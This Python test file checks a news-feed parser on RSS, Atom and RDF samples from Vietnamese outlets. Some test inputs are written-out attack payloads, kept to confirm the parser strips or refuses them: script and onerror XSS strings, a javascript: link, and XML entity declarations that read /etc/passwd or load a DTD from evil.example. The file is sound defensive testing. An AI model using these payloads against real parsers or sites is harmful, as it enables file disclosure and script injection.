"""Feeds as they are found in the wild."""

from contextlib import suppress
from datetime import UTC, datetime
from html import escape

import feedparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collector import feeds, plain_rss, xmlread
from collector.feeds import parse
from collector.items import entries
from core.errors import FeedError
from support.factories import outlet
from support.fakes import NOON

URL = "https://baomau.example/rss/home.rss"
PAPER = outlet()


def item(title="Tây Ninh mở cửa khẩu", link="https://baomau.example/1.html", more=""):
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def rss(*items, head='<?xml version="1.0" encoding="utf-8"?>'):
    return f'{head}<rss version="2.0"><channel><title>t</title>{"".join(items)}</channel></rss>'.encode()


def read(body, content_type="application/rss+xml"):
    return parse(body, URL, PAPER, NOON, content_type)


def one(body):
    (entry,) = read(body)
    return entry


def test_an_item_becomes_an_entry_of_plain_text():
    more = (
        "<description><![CDATA[<p>Cửa khẩu <b>Mộc Bài</b></p><img src=x>]]></description><guid>a-1</guid>"
        "<pubDate>Thu, 15 Oct 2026 10:00:00 GMT+7</pubDate>"
    )
    entry = one(rss(item(more=more)))
    assert (entry.url, entry.title) == ("https://baomau.example/1.html", "Tây Ninh mở cửa khẩu")
    assert (entry.summary, entry.guid) == ("Cửa khẩu Mộc Bài", "a-1")
    assert entry.published == datetime(2026, 10, 15, 3, tzinfo=UTC)


def test_an_atom_feed_is_read():
    body = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><title type="html">Tây &amp;amp; Ninh</title>'
        '<link rel="enclosure" href="/a.mp3"/><link href="/1.html"/><id>urn:1</id>'
        "<updated>2026-10-15T10:00:00+07:00</updated>"
        '<content type="html">&lt;p&gt;Long An&lt;/p&gt;</content></entry></feed>'
    )
    entry = one(body.encode())
    assert (entry.url, entry.title) == ("https://baomau.example/1.html", "Tây & Ninh")
    assert (entry.summary, entry.published) == ("Long An", datetime(2026, 10, 15, 3, tzinfo=UTC))


def test_an_rdf_feed_is_read():
    body = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        '<channel><title>t</title></channel><item rdf:about="x"><title>Tây Ninh</title>'
        "<link>https://baomau.example/1.html</link></item></rdf:RDF>"
    )
    assert one(body.encode()).title == "Tây Ninh"


TITLES = {
    "entities": ("T&#226;y Ninh &amp;amp; Long An &amp;quot;x&amp;quot;", 'Tây Ninh & Long An "x"'),
    "markup": ("&lt;b&gt;Tây&lt;/b&gt; Ninh", "Tây Ninh"),
    "a script": ("&lt;script&gt;alert(1)&lt;/script&gt;Tây Ninh", "Tây Ninh"),
    "a script in CDATA": ("<![CDATA[<script>alert(1)</script>Tây Ninh]]>", "Tây Ninh"),
    "markup escaped twice": ("&amp;lt;b&amp;gt;Tây&amp;lt;/b&amp;gt; Ninh", "Tây Ninh"),
    "an event handler": ("<![CDATA[<img src=x onerror=alert(1)>Tây Ninh]]>", "Tây Ninh"),
    "a comparison": ("5 &lt; 6 &amp; 7", "5 < 6 & 7"),
    "lines": ("\n  Tây\n\tNinh  ", "Tây Ninh"),
    "decomposed letters": ("Ta\u0302y Ninh", "Tây Ninh"),
    "invisible and bidirectional marks": ("T\u200bâ\u202ey Ninh", "Tây Ninh"),
    "characters that XML forbids": ("Tây\x00\x0b Ninh\x1b[31m", "Tây Ninh[31m"),
}


@pytest.mark.parametrize(("raw", "title"), TITLES.values(), ids=TITLES)
def test_a_title_is_clean_text_on_one_line(raw, title):
    assert one(rss(item(raw))).title == title


LINKS = {
    "relative": ("/thoi-su/1.html", "https://baomau.example/thoi-su/1.html"),
    "whitespace": ("\n   https://baomau.example/1.html\n ", "https://baomau.example/1.html"),
    "tracking": ("https://baomau.example/1.html?utm_source=rss", "https://baomau.example/1.html"),
    "ampersand not escaped": ("https://baomau.example/a?x=1&y=2", "https://baomau.example/a?x=1&y=2"),
    "CDATA": ("<![CDATA[https://baomau.example/a?x=1&y=2]]>", "https://baomau.example/a?x=1&y=2"),
}


@pytest.mark.parametrize(("raw", "url"), LINKS.values(), ids=LINKS)
def test_a_link_is_canonical(raw, url):
    assert one(rss(item(link=raw))).url == url


def test_a_guid_that_is_an_address_serves_when_the_link_is_missing():
    body = rss("<item><title>Tây Ninh</title><guid>https://baomau.example/1.html</guid></item>")
    assert one(body).url == "https://baomau.example/1.html"


@pytest.mark.parametrize(
    "useless",
    [
        item(link="javascript:alert(1)"),
        item(link=""),
        item(link="#top"),
        item(link="mailto:a@b.example", more="<guid isPermaLink='false'>1</guid>"),
    ],
    ids=["script as link", "no link", "link to the feed itself", "mail address as link"],
)
def test_an_item_without_a_usable_link_is_left_out(useless):
    assert [entry.title for entry in read(rss(useless, item("Long An", "https://baomau.example/2.html")))] == [
        "Long An"
    ]


NAMELESS = {
    "first words of the summary": (
        item("", more=f"<description>{'Tây Ninh ' * 20}</description>"),
        "Tây Ninh " * 7 + "Tây …",
    ),
    "a title without text": (item("&lt;script&gt;x&lt;/script&gt;", more="<description>Tin</description>"), "Tin"),
    "words of the address": (item("", "https://baomau.example/tay-ninh-mo-cua-khau-1.html"), "tay ninh mo cua khau"),
    "the address": (item("", "https://baomau.example/1.html"), "https://baomau.example/1.html"),
    "no title element": ("<item><link>https://baomau.example/tay-ninh.html</link></item>", "tay ninh"),
}


@pytest.mark.parametrize(("nameless", "title"), NAMELESS.values(), ids=NAMELESS)
def test_an_item_without_a_title_is_called_by_what_it_has(nameless, title):
    assert one(rss(nameless)).title == title


ATOM_LINKS = {
    "related": '<link rel="related" href="https://baomau.example/1.html"/>',
    "via": '<link rel="via" href="https://baomau.example/1.html"/>',
    "a relation of its own": '<link rel="https://a.example/rel" href="https://baomau.example/1.html"/>',
    "enclosure": '<link rel="enclosure" href="https://baomau.example/1.html"/>',
    "the best first": '<link rel="enclosure" href="/1.mp3"/><link rel="related" href="/2"/><link href="/1.html"/>',
    "id": "<id>https://baomau.example/1.html</id>",
    "a base": '<link xml:base="https://baomau.example/a/" href="../1.html"/>',
    "Feedburner": '<link href="https://feeds.example/~r/1"/><f:origLink>https://baomau.example/1.html</f:origLink>',
}


@pytest.mark.parametrize("links", ATOM_LINKS.values(), ids=ATOM_LINKS)
def test_an_entry_is_found_by_whatever_address_it_has(links):
    spaces = 'xmlns="http://www.w3.org/2005/Atom" xmlns:f="http://rssnamespace.org/feedburner/ext/1.0"'
    assert one(f"<feed {spaces}><entry><title>Tin</title>{links}</entry></feed>".encode()).url == (
        "https://baomau.example/1.html"
    )


def test_links_to_licence_and_answers_are_no_address_of_an_entry():
    links = '<link rel="license" href="https://a.example/by"/><link rel="replies" href="/1/comments"/>'
    body = f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Tin</title>{links}</entry></feed>'
    assert read(body.encode()) == ()


def test_an_item_known_by_its_enclosure_only_is_read():
    body = rss("<item><title>Tin</title><enclosure url='https://baomau.example/1.mp3'/></item>")
    assert one(body).url == "https://baomau.example/1.mp3"


def test_an_item_known_by_its_resource_only_is_read():
    body = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        '<item rdf:about="https://baomau.example/1.html"><title>Tin</title></item></rdf:RDF>'
    )
    assert one(body.encode()).url == "https://baomau.example/1.html"


ROOTS = {
    "an entry alone": '<entry xmlns="http://www.w3.org/2005/Atom"><title>Tin</title><link href="/1"/></entry>',
    "an entry with a prefix": '<a:entry xmlns:a="http://www.w3.org/2005/Atom"><a:link href="/1"/></a:entry>',
    "RSS 1.1": '<Channel xmlns="http://purl.org/net/rss1.1#"><items><item><link>/1</link></item></items></Channel>',
    "RSS 0.90": (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">'
        "<channel><title>t</title></channel><item><title>Tin</title><link>/1</link></item></rdf:RDF>"
    ),
    "the document type of a page": f"<!DOCTYPE html>{rss(item(link='/1'), head='').decode()}",
    "comments before the root": f"<!-- <a@b.example> --><?x y?>{rss(item(link='/1'), head='').decode()}",
}


@pytest.mark.parametrize("body", ROOTS.values(), ids=ROOTS)
def test_every_kind_of_root_is_read(body):
    assert one(body.encode()).url == "https://baomau.example/1"


def test_an_address_comes_once():
    again = item("Khác", "https://baomau.example/1.html?utm_source=x")
    assert [entry.title for entry in read(rss(item(), again))] == ["Tây Ninh mở cửa khẩu"]


def test_entries_keep_the_order_of_the_feed():
    titles = [f"Tin {n}" for n in range(20)]
    body = rss(*(item(title, f"https://baomau.example/{title[4:]}") for title in titles))
    assert [entry.title for entry in read(body)] == titles


def test_a_feed_without_items_is_empty_not_wrong():
    assert read(rss()) == ()


@pytest.mark.parametrize("n", [2000, 2001, 5000])
def test_at_most_two_thousand_entries_are_read(n):
    entries = read(rss(*(item(f"Tin {i}", f"https://baomau.example/{i}") for i in range(n))))
    assert len(entries) == 2000
    assert entries[-1].title == "Tin 1999"


def test_one_wrong_byte_costs_one_letter_only():
    body = rss(
        item("Hà Nội"), item("Tây Ninh", "https://baomau.example/2"), item("Long An", "https://baomau.example/3")
    )
    body = body.replace("Hà".encode(), b"H\xe0")
    assert [entry.title for entry in read(body)] == ["H\ufffd Nội", "Tây Ninh", "Long An"]


def test_an_unescaped_ampersand_does_not_spoil_the_feed():
    assert [entry.title for entry in read(rss(item("R&D ở Tây Ninh")))] == ["R&D ở Tây Ninh"]


def test_a_cut_feed_loses_its_last_item_only():
    body = rss(item("Tin 1", "https://baomau.example/1"), item("Tin 2", "https://baomau.example/2", "<description>dài"))
    cut = body[: body.index("dài".encode())]
    assert [entry.title for entry in read(cut)] == ["Tin 1"]


def test_a_cut_behind_the_last_item_loses_nothing():
    body = rss(item("Tin 1", "https://baomau.example/1"), item("Tin 2", "https://baomau.example/2"))
    assert [entry.title for entry in read(body[: body.rindex(b"</item>") + 10])] == ["Tin 1", "Tin 2"]


def test_a_comment_behind_the_end_is_no_cut():
    assert len(read(rss(item()) + b"<!-- cache 12:00 -->")) == 1


def test_a_long_author_field_is_not_even_looked_at():
    body = rss(item(more=f"<author>{'a' * 400_000}</author>"), item("Long An", "https://baomau.example/2"))
    assert len(read(body)) == 2


AUTHORS = {
    "an element in literal text": "<author><![CDATA[Nguyễn <b> Văn]]></author>",
    "a name in a literal text": "<description><![CDATA[a <author> b]]></description>",
    "a literal that ends twice": "<author><![CDATA[a]] b]]></author>",
}


@pytest.mark.parametrize("more", AUTHORS.values(), ids=AUTHORS)
def test_taking_persons_out_costs_no_item(more):
    assert len(read(rss(item(more=more), item("Long An", "https://baomau.example/2")))) == 2


def test_a_person_never_reaches_an_entry():
    more = "<author>a@b.example (Nguyễn Văn Mẫu)</author><dc:creator><![CDATA[Trần Thị Mẫu]]></dc:creator>"
    assert "Mẫu" not in repr(one(rss(item(more=more))))


WRONG = {
    "nothing": (b"", "empty"),
    "white space": (b" \n\t", "empty"),
    "a page": (b"<!DOCTYPE html><html><body><h1>404</h1></body></html>", "not_feed"),
    "a page that speaks of rss": (b"<html><body><a href='/feed'><rss></a></body></html>", "not_feed"),
    "JSON": (b'{"items": []}', "not_feed"),
    "words": ("Tây Ninh".encode(), "not_feed"),
    "a sitemap": (b"<urlset xmlns='x'><url><loc>https://a.example/</loc></url></urlset>", "not_feed"),
    "noise": (bytes(range(256)) * 4, "not_feed"),
    "the beginning of a feed": ("<rss><channel><item><title>T\xe2y Ninh".encode("latin-1"), "truncated"),
    "a local file's path": (b"/etc/passwd", "not_feed"),
    "an address": (b"http://127.0.0.1/rss", "not_feed"),
}


@pytest.mark.parametrize(("body", "kind"), WRONG.values(), ids=WRONG)
def test_what_is_no_feed_is_refused_by_kind(body, kind):
    with pytest.raises(FeedError) as caught:
        read(body)
    assert (caught.value.kind, caught.value.url) == (kind, URL)
    assert "Báo Mẫu" in str(caught.value)


ENTITIES = {
    "a billion laughs": '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>',
    "an external entity": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "a parameter entity": '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
    "small letters": '<!doctype rss [<!entity a "ha">]>',
}


@pytest.mark.parametrize("doctype", ENTITIES.values(), ids=ENTITIES)
def test_declared_entities_are_refused(doctype):
    with pytest.raises(FeedError) as caught:
        read(rss(item("&a;"), head=doctype))
    assert caught.value.kind == "entities"


def test_a_plain_document_type_is_accepted():
    assert len(read(rss(item(), head='<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "rss.dtd">'))) == 1


def test_a_file_named_like_the_body_is_never_opened(tmp_path):
    trap = tmp_path / "feed.xml"
    trap.write_bytes(rss(item()))
    assert feedparser.parse(str(trap)).entries, "feedparser would open it"
    with pytest.raises(FeedError):
        read(str(trap).encode())


ALIKE = {
    "a description": "<description>a</description>",
    "a description in CDATA": "<description><![CDATA[<a href='x'><img src='y'></a></br>a &amp; b]]></description>",
    "two descriptions": "<description>a</description><description>b</description>",
    "an empty description and content": "<description/><content:encoded>b</content:encoded>",
    "content, then a description": "<content:encoded>b</content:encoded><description>a</description>",
    "a summary": "<summary>a</summary>",
    "a title of another kind": "<media:title>b</media:title>",
    "a Dublin Core title": "<dc:title>b</dc:title>",
    "a picture": "<media:thumbnail url='https://a.example/b.jpg'/><media:content url='c'/><image>https://a.example/c</image>",
    "a picture with parts": "<image><title>b</title><link>https://a.example/b</link></image>",
    "another link": "<link>https://a.example/other</link>",
    "an Atom link": "<atom:link href='https://a.example/b' rel='alternate'/>",
    "an enclosure": "<enclosure url='https://a.example/b.mp3' type='audio/mpeg'/>",
    "a guid": "<guid isPermaLink='false'>a</guid>",
    "a guid with slashes": "<guid>https:////a.example/b</guid>",
    "a date": "<pubDate>Thu, 15 Oct 2026 10:00:00 +0700</pubDate>",
    "a Dublin Core date": "<dc:date>2026-10-15T10:00:00+07:00</dc:date>",
    "dates": "<updated>2026-10-15T10:00:00+07:00</updated><pubDate>Wed, 14 Oct 2026 10:00:00 +0700</pubDate>",
    "two dates": "<pubDate>2026-10-15T10:00:00+07:00</pubDate><pubDate>Wed, 14 Oct 2026 10:00:00 +0700</pubDate>",
    "a base": "<description xml:base='https://b.example/'>a</description>",
    "elements in a description": "<description><p>a</p>b</description>",
    "capitals": "<DESCRIPTION>a</DESCRIPTION>",
    "a name of its own": "<sapo>a</sapo>",
    "text decoded twice": "<description>T\u00c3\u00a2y</description>",
    "quotes of Windows": "<description>\u0093a\u0094</description>",
    "an item within": "<item><title>b</title><link>https://a.example/b</link></item>",
    "a base64 description": "<description mode='base64'>VMOieQ==</description>",
    "a comment": "<description>a<!-- b -->c</description><!-- d -->",
    "a processing instruction": "<description>a<?b c?>d</description>",
    "an undeclared name space": "<x:y>a</x:y>",
}
_SPACES = (
    "xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:dc='http://purl.org/dc/elements/1.1/' "
    "xmlns:media='http://search.yahoo.com/mrss/' xmlns:atom='http://www.w3.org/2005/Atom'"
)


def both_ways(text):
    """What the reader of the common form makes of a feed, and what feedparser does."""
    items = plain_rss.read(text, "")
    mine = None if items is None else tuple(entries(items, URL, NOON))
    return mine, tuple(entries(feeds._parsed(text), URL, NOON))


@pytest.mark.parametrize("more", ALIKE.values(), ids=ALIKE)
def test_the_common_form_is_read_as_feedparser_reads_it_or_left_to_it(more):
    text = f"<rss version='2.0' {_SPACES}><channel><title>t</title>{item(more=more)}{item('B', '/b')}</channel></rss>"
    mine, feedparsers = both_ways(text)
    assert mine in (None, feedparsers)


def test_the_common_form_needs_no_feedparser():
    more = "<description><![CDATA[<img src='x'>a]]></description><guid>1</guid><pubDate>14/10/2026 10:00</pubDate>"
    mine, feedparsers = both_ways(rss(item(more=more), item("B", "/b"), head="").decode())
    assert mine is not None
    assert mine == feedparsers


_PIECES = st.sampled_from(
    ["title", "link", "description", "guid", "pubDate", "updated", "category", "dc:date", "content:encoded", "image"]
)
_VALUES = st.text(max_size=8) | st.sampled_from(
    ["https://a.example/1", "/2", "<b>x</b>", "&amp;", "2026-10-15", "\x93"]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.tuples(_PIECES, _VALUES, st.booleans()), max_size=6), max_size=3))
def test_any_feed_in_the_common_form_is_read_as_feedparser_reads_it(items):
    def written(name, value, literal):
        inside = f"<![CDATA[{value.replace(']]>', '')}]]>" if literal else escape(value)
        return f"<{name}>{inside}</{name}>"

    inner = "".join(f"<item>{''.join(written(*piece) for piece in pieces)}</item>" for pieces in items)
    text = xmlread._ILLEGAL.sub("", f"<rss version='2.0' {_SPACES}><channel><title>t</title>{inner}</channel></rss>")
    mine, feedparsers = both_ways(text)
    assert mine in (None, feedparsers)


@settings(max_examples=100, deadline=None)
@given(st.binary() | st.text().map(str.encode))
def test_any_bytes_give_entries_or_a_feed_error(body):
    with suppress(FeedError):
        assert isinstance(read(body), tuple)


@settings(max_examples=100, deadline=None)
@given(st.text(), st.text(), st.binary(max_size=20), st.integers(0, 300))
def test_a_feed_with_anything_in_it_gives_clean_entries_or_a_feed_error(title, link, noise, place):
    body = rss(item(escape(title), escape(link), f"<description>{title}</description><pubDate>{link}</pubDate>"))
    try:
        entries = read(body[:place] + noise + body[place:])
    except FeedError:
        return
    for entry in entries:
        assert entry.url.startswith(("http://", "https://"))
        assert entry.title
        assert "\n" not in entry.title


@pytest.mark.shared
def test_real_feeds_of_vietnamese_outlets_are_read_whole(shared):
    folder = shared / "data" / "feeds" / "samples"
    now = datetime(2026, 12, 1, tzinfo=UTC)
    poor = {}
    for path in [*folder.glob("outlets_2026/*.rss"), *folder.glob("*.xml")]:
        entries = parse(path.read_bytes(), f"https://{path.stem}.example/rss", PAPER, now)
        if not entries or not all(entry.published for entry in entries):
            poor[path.name] = entries
    assert poor == {}
